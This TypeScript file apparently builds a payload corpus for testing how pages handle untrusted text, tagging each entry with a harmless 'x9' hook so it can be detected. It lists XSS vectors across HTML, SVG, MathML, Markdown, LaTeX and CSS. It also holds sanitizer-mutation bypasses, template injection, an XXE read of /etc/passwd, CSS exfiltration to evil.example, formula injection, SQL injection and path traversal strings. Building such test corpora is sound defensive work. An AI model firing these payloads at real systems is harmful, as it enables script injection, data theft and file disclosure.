/**
 * Texts that run, load or draw something where a page takes them for more than text. Each names the hook
 * `x9()` or the attribute `data-x9`, by which a page tells what became of it.
 */
const RUN = "x9(1)";
const AWAY = "//evil.example/x9";

/** Elements that run script by themselves when they are parsed. */
const ELEMENTS = [
  `<script>${RUN}</script>`,
  `<script src="${AWAY}"></script>`,
  `<img src=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<body onload=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>d</details>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}></audio>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<style onload=${RUN}></style>`,
  `<link rel=stylesheet href=x onerror=${RUN}>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<a href="javascript:${RUN}">link</a>`,
  `<form action="javascript:${RUN}"><button>b</button></form>`,
  `<base href="${AWAY}">`,
  `<marquee onstart=${RUN}>m</marquee>`,
];

/** What ends the place that a text may stand in. */
const BREAKOUTS = ['">', "'>", "-->", "</title>", "</textarea>", "</script>", "</style>", "]]>"];

const SVG = [
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
  `<svg><set onbegin=${RUN} attributeName=x></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>t</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x><script>${RUN}</script></svg>#x"/></svg>`,
  `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`,
  `<svg><image href="${AWAY}"/></svg>`,
  `<svg><style>@import "${AWAY}"</style></svg>`,
  `<svg><desc><![CDATA[</desc><script>${RUN}</script>]]></svg>`,
  `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><svg>&e;</svg>`,
];

const MATHML = [
  `<math href="javascript:${RUN}">m</math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}></style></mglyph></table></mtext></math>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${RUN}">m</maction></math>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${RUN}></annotation-xml></math>`,
];

const TEMPLATES = [
  "{{7*7}}",
  "${7*7}",
  "#{7*7}",
  "<%= 7*7 %>",
  "{%raw%}{{7*7}}{%endraw%}",
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `{{$on.constructor('${RUN}')()}}`,
  `[[\${T(java.lang.Runtime).getRuntime().exec('x9')}]]`,
  `{{'a'.constructor.prototype.charAt=[].join;$eval('${RUN}')}}`,
  `<template><script>${RUN}</script></template>`,
  `<slot onslotchange=${RUN}></slot>`,
];

const MARKDOWN = [
  `[click](javascript:${RUN})`,
  `![x9](${AWAY}.png)`,
  `[x9]: javascript:${RUN}`,
  `<javascript:${RUN}>`,
  `[a](data:text/html,<script>${RUN}</script>)`,
  `![a](x "onerror=${RUN}")`,
  `# heading x9\n\n---\n\n* item`,
  `| a | b |\n|---|---|\n| x9 | <img src=x onerror=${RUN}> |`,
  `\`\`\`html\n<script>${RUN}</script>\n\`\`\``,
  `[ref][1]\n\n[1]: vbscript:${RUN}`,
  `<https://evil.example/x9>`,
  `https://evil.example/x9?q=1`,
  `x9@evil.example`,
  `> quote\n> <svg onload=${RUN}>`,
  `\`\`\`mermaid\ngraph TD; A[<img src=x onerror=${RUN}>]\n\`\`\``,
  `:::x9\n<script>${RUN}</script>\n:::`,
];

const LATEX = [
  `$\\href{javascript:${RUN}}{x}$`,
  `\\(\\href{javascript:${RUN}}{x}\\)`,
  `$$\\href{data:text/html,<script>${RUN}</script>}{x}$$`,
  `\\[\\url{javascript:${RUN}}\\]`,
  `$\\htmlData{x9=1}{x}$`,
  `$\\style{background:url(${AWAY})}{x}$`,
  `$\\unicode{x202E}x9$`,
  `$\\class{x9}{x}$`,
  `$\\cssId{x9}{x}$`,
  `\\def\\x{\\x\\x}\\x % x9`,
  `\\begin{align}x9\\end{align}`,
  `$\\includegraphics[alt=x9]{${AWAY}.png}$`,
];

const SCHEMES = [
  "javascript:",
  "JaVaScRiPt:",
  "java\tscript:",
  "java\nscript:",
  " javascript:",
  "\u0001javascript:",
  "javascript&colon;",
  "javascript%3A",
  "vbscript:",
  "data:text/html,",
  "data:image/svg+xml,",
  "blob:",
  "file:///etc/passwd#",
  "view-source:",
  "intent://",
  "jar:",
  "feed:javascript:",
  "//evil.example/",
  "\\\\evil.example\\",
  "https:evil.example/",
].map((scheme) => `${scheme}${RUN}`);

const CSS = [
  `<style>*{background:url(${AWAY})}</style>`,
  `<div style="background:url(${AWAY})">d</div>`,
  `<div style="position:fixed;inset:0;background:red;z-index:9999">d</div>`,
  `<div style="width:expression(${RUN})">d</div>`,
  `</style><style>@import url(${AWAY});</style>`,
  `<style>input[value^=a]{background:url(${AWAY})}</style>`,
  `<div style="-moz-binding:url(${AWAY})">d</div>`,
  `x9{}*{display:none}`,
  `<style>@font-face{font-family:x;src:url(${AWAY})}</style>`,
  `<link rel=preload as=style href=${AWAY}>`,
];

const ENTITIES = [
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `&#x3c;img src=x onerror=${RUN}&#x3e;`,
  `&amp;lt;script&amp;gt;${RUN}`,
  `<a href="&#106;avascript:${RUN}">a</a>`,
  `<a href="java&Tab;script:${RUN}">a</a>`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `\\x3cimg src=x onerror=${RUN}\\x3e`,
  `＜script＞${RUN}＜/script＞`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `&NewLine;&Tab;<img src=x onerror=${RUN}>`,
];

/** What becomes something else when it is read, written and read again. */
const MUTATIONS = [
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<table><td><a><svg><title><img src=x onerror=${RUN}></title></svg>`,
  `<img alt="<x" title="/><img src=x onerror=${RUN}>">`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<!-- --!><img src=x onerror=${RUN}> -->`,
  `<xmp><p title="</xmp><svg/onload=${RUN}>">`,
  `<listing>&lt;img onerror=${RUN} src=x&gt;</listing>`,
  `<select><iframe></select><img src=x onerror=${RUN}></iframe>`,
  `<img/src='x'/onerror='${RUN}'`,
  `<<script>${RUN}//<</script>`,
];

const INVISIBLE = [
  "x9\u202egnp.exe",
  "x9\u202dabc\u202c",
  "\u2067x9\u2066\u2069",
  "x9\u200b\u200c\u200d\u2060",
  "x9\ufeff",
  "x9\u00ad\u061c",
  "x9\u{e0041}\u{e0042}\u{e007f}",
  "x9\ufe0f\u{e0100}",
  "x9 \u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627 x9",
  "x9\u0300\u0301\u0302\u0303\u0304\u0305".repeat(6),
  "x9\u2028\u2029",
  "x9\u0085\u0009\u000b\u000c",
  "x9\ud800 half a pair",
];

const TERMINALS = [
  "\u001b[31mx9\u001b[0m",
  "\u001b]8;;https://evil.example/x9\u001b\\x9\u001b]8;;\u001b\\",
  "\u001b]0;x9\u0007",
  "\u001b[2J\u001b[Hx9",
  "\u009b31mx9",
  "x9\r\nSet-Cookie: x9=1",
  "x9\u0008\u0008ok",
];

const OTHERS = [
  "%s%s%n%x9",
  "%00x9",
  "{0.__class__} x9",
  "__proto__",
  "constructor",
  "toString",
  "=cmd|' /C calc'!A0 x9",
  '=HYPERLINK("https://evil.example/x9","x")',
  "x9'; DROP TABLE episodes; --",
  "../../../../etc/passwd x9",
  "undefined x9 null NaN",
  "x9".repeat(40),
  `";${RUN};//`,
  `';${RUN};//`,
  `\`;${RUN};//`,
  `</script><script>self.__next_f.push([1,"${RUN}"])</script>`,
  `{"x9":"$undefined","$$typeof":"react.element","dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${RUN}>"}}`,
  `$Sreact.suspense x9`,
];

/** Elements that are parsed from a payload carry the attribute, so that a page can look for them. */
function marked(payload: string): string {
  return payload.replaceAll(/<([a-z]+)(?=[\s>/])/gi, "<$1 data-x9");
}

export const PAYLOADS: readonly string[] = [
  ...ELEMENTS,
  ...BREAKOUTS.flatMap((end) => ELEMENTS.map((element) => end + element)),
  ...SVG,
  ...MATHML,
  ...TEMPLATES,
  ...MARKDOWN,
  ...LATEX,
  ...SCHEMES,
  ...CSS,
  ...ENTITIES,
  ...MUTATIONS,
  ...INVISIBLE,
  ...TERMINALS,
  ...OTHERS,
].map(marked);
